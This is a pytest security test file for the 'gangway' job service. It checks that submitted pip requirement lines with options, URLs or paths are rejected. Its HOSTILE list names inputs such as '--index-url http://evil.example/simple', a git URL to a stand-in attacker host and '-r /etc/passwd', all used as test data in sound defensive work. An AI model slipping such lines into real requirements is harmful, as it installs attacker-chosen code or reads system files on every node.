"""Requirement lines go to pip on every node: the audit found pip options, URLs and paths
accepted as written (`-e /tmp`, `--index-url http://evil`, `-r /etc/x`, `pkg @ file:///`),
each a way to install code from wherever the submitter points. Plain
`name[extras] specifier ; marker` lines are what a job needs."""

from __future__ import annotations

from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

import gangway.cli
import gangway.cli_shared
from gangway import Client
from tests.security.audit_api import BUILTIN, audited, refusal, users

HOSTILE = [
    "-e /tmp",
    "--index-url http://evil.example/simple",
    "--extra-index-url=http://evil.example/simple",
    "-r /etc/passwd",
    "-c /etc/constraints.txt",
    "--find-links /tmp",
    "pkg @ file:///etc",
    "pkg @ https://evil.example/pkg-1.0.tar.gz",
    "git+https://evil.example/repo.git",
    "https://evil.example/pkg-1.0.tar.gz",
    "./localdir",
    "/abs/path/pkg",
    "../up",
    "pkg-1.0-py3-none-any.whl",
    "numpy==1.26 --hash=sha256:00",
]


@pytest.mark.parametrize("line", HOSTILE)
def test_bob_cannot_hand_pip_options_urls_or_paths(
    database_url: str, tmp_path: Path, line: str
) -> None:
    api = audited(database_url, tmp_path)
    _, bob = users(api)
    body = {**BUILTIN, "requirements": ["einops==0.8.0", line]}
    answer = api.post("/v1/jobs", json=body, headers=bob)
    assert refusal(answer) == (422, "requirements.1"), answer.text
    for route in ("/v1/jobs", "/v1/estimate"):  # estimate takes the same body
        again = api.post(route, json={**BUILTIN, "requirements": [line]}, headers=bob)
        assert refusal(again) == (422, "requirements.0"), (route, again.text)


def test_plain_requirement_lines_still_pass(database_url: str, tmp_path: Path) -> None:
    api = audited(database_url, tmp_path)
    _, bob = users(api)
    lines = ["einops==0.8.0", "requests[socks]>=2,<3", 'tomli ; python_version < "3.11"']
    answer = api.post("/v1/jobs", json={**BUILTIN, "requirements": lines}, headers=bob)
    assert answer.status_code == 201, answer.text


def test_an_admin_may_allow_pip_options(database_url: str, tmp_path: Path) -> None:
    api = audited(database_url, tmp_path, requirements_allow_pip_options=True)
    _, bob = users(api)
    body = {**BUILTIN, "requirements": ["--extra-index-url http://mirror.local/simple"]}
    assert api.post("/v1/jobs", json=body, headers=bob).status_code == 201


def test_the_cli_refuses_before_uploading_anything(
    database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    api = audited(database_url, tmp_path)
    _, bob = users(api)

    def connect(url: str) -> Client:
        client = Client(url)
        client._http = TestClient(api.app, headers=bob)
        return client

    monkeypatch.setattr(gangway.cli_shared, "connect", connect)
    workdir = tmp_path / "work"
    workdir.mkdir()
    (workdir / "train.py").write_text("print('hi')\n")
    requirements = tmp_path / "requirements.txt"
    requirements.write_text("# pinned\neinops==0.8.0  # for rearrange\n-e /tmp\n")
    args = ["submit", "--workdir", str(workdir), "--requirements", str(requirements)]
    result = CliRunner().invoke(gangway.cli.app, [*args, "--", "python", "train.py"])
    assert result.exit_code == 2, result.output
    assert "requirements.1" in result.output and "-e /tmp" in result.output
    packages = tmp_path / "packages"
    assert not packages.exists() or not any(packages.iterdir())  # nothing uploaded
    # with --pip-options the service is the judge: it refuses (its admin allows none)
    forced = CliRunner().invoke(gangway.cli.app, [*args, "--pip-options", "--", "python", "x"])
    assert forced.exit_code == 1 and "requirements.1" in forced.output
